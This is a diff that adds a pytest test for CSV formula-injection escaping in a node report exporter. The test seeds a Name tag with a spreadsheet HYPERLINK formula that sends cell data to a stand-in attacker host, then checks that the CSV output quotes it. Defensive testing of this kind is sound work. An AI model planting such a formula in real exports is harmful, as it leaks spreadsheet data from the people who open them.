@@ -532,3 +532,16 @@ def test_a_bucket_that_does_not_exist_is_named_with_the_region(run_target, tmp_p
                     expect_failure=True)
     assert result["msg"].startswith("s3_bucket no-such-reports-bucket does not exist (asked from us-east-1)")
     assert result.get("changed") is not True and list(reports.iterdir()) == []
+
+
+def test_formula_cells_from_node_data_are_defused_in_the_csv(run_target, tmp_path):
+    """A Name tag a spreadsheet would run: quoted in the CSV by default, raw with csv_escape_formulas=false and in JSON."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    [node] = run_target.sandbox.seed_nodes(1, "AMAZON_LINUX_2", tags={"Name": formula})
+    export(run_target, tmp_path, {"report_name": "escaped", "dest": str(tmp_path)}, name="escaped")
+    export(run_target, tmp_path, {"report_name": "raw", "dest": str(tmp_path), "csv_escape_formulas": False}, name="raw")
+    export(run_target, tmp_path, {"report_name": "raw", "format": "json", "dest": str(tmp_path)}, name="json")
+    escaped = read_csv((tmp_path / "escaped.csv").read_text())[1]
+    assert escaped[1] == node and escaped[2] == "'" + formula and escaped[0] == "1"
+    assert read_csv((tmp_path / "raw.csv").read_text())[1][2] == formula
+    assert json.loads((tmp_path / "raw.json").read_text())["nodes"][0]["name"] == formula
